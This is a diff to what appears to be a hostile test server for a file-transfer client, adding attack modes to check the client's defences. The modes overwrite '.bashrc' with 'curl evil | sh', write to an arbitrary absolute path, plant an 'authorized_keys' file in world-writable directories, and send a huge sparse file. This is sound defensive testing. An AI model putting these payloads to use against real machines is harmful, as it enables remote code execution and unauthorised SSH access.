@@ -10,7 +10,13 @@
  *       dotdot  an ENTRY named ".."
  *       badlen  a record length of 0xffffffff
  *       digest  a file whose digest does not match
- *       die     half a file, then the connection closes */
+ *       die     half a file, then the connection closes
+ *       rename  the top is a file named ".bashrc", whatever was asked for
+ *       abstop  the top is named TARGET (an absolute path)
+ *       chmod   the top is a directory of mode 0777 holding a directory
+ *               "sub" (0777) and a file "authorized_keys": merged into
+ *               directories the client already has, their modes must stay
+ *       hole    the top is a hole-only file of 2^62 bytes */
 #include <errno.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -70,9 +76,10 @@ static int flush(int fd)
 	return 0;
 }
 
-static void entry(uint8_t kind, const char *name, uint64_t size, const char *target)
+static void entry_m(uint8_t kind, const char *name, uint64_t size, const char *target,
+		    uint32_t mode)
 {
-	struct slc_entry e = { .kind = kind, .mode = kind == SLC_K_DIR ? 0755 : 0644, .size = size };
+	struct slc_entry e = { .kind = kind, .mode = mode, .size = size };
 	uint8_t p[8192];
 	long n;
 
@@ -81,6 +88,24 @@ static void entry(uint8_t kind, const char *name, uint64_t size, const char *tar
 		snprintf(e.target, sizeof(e.target), "%s", target);
 	n = slc_entry_encode(p, sizeof(p), &e);
 	add(SLC_ENTRY, p, (size_t)n);
+}
+
+static void entry(uint8_t kind, const char *name, uint64_t size, const char *target)
+{
+	entry_m(kind, name, size, target, kind == SLC_K_DIR ? 0755 : 0644);
+}
+
+/* A file of `size` bytes that is all hole: no DATA, only its digest. */
+static void hole_file(const char *name, uint64_t size)
+{
+	uint8_t p[2 + SLC_DIGEST_MAX];
+	struct slc_digest d;
+
+	entry(SLC_K_FILE, name, size, NULL);
+	slc_digest_init(&d, SLC_DG_XXH128);
+	p[0] = SLC_DG_XXH128;
+	p[1] = (uint8_t)slc_digest_end(&d, size, p + 2);
+	add(SLC_FILE_END, p, 2u + p[1]);
 }
 
 static void file(const char *name, const char *data, int bad_digest)
@@ -94,8 +119,8 @@ static void file(const char *name, const char *data, int bad_digest)
 	memcpy(p + 8, data, n);
 	add(SLC_DATA, p, 8 + n);
 	slc_digest_init(&d, SLC_DG_XXH128);
-	slc_digest_update(&d, data, n);
-	slc_digest_final(&d, dg);
+	slc_digest_data(&d, 0, data, n);
+	slc_digest_end(&d, n, dg);
 	if (bad_digest)
 		dg[0] ^= 1;
 	p[0] = SLC_DG_XXH128;
@@ -165,6 +190,26 @@ int main(int argc, char **argv)
 		file("good", "fine\n", 0);
 		file("bad", "corrupted\n", 1);
 		add(SLC_DIR_END, NULL, 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "rename")) {
+		file(".bashrc", "curl evil | sh\n", 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "abstop") && argc > 3) {
+		file(argv[3], "owned\n", 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "chmod")) {
+		entry_m(SLC_K_DIR, "ssh", 0, NULL, 0777);
+		entry_m(SLC_K_DIR, "sub", 0, NULL, 0777);
+		add(SLC_DIR_END, NULL, 0);
+		file("authorized_keys", "ssh-ed25519 AAAA evil\n", 0);
+		add(SLC_DIR_END, NULL, 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "hole")) {
+		hole_file("top", 1ull << 62);
 		add(SLC_XFER_END, NULL, 0);
 		flush(fd);
 	} else if (!strcmp(mode, "die")) {
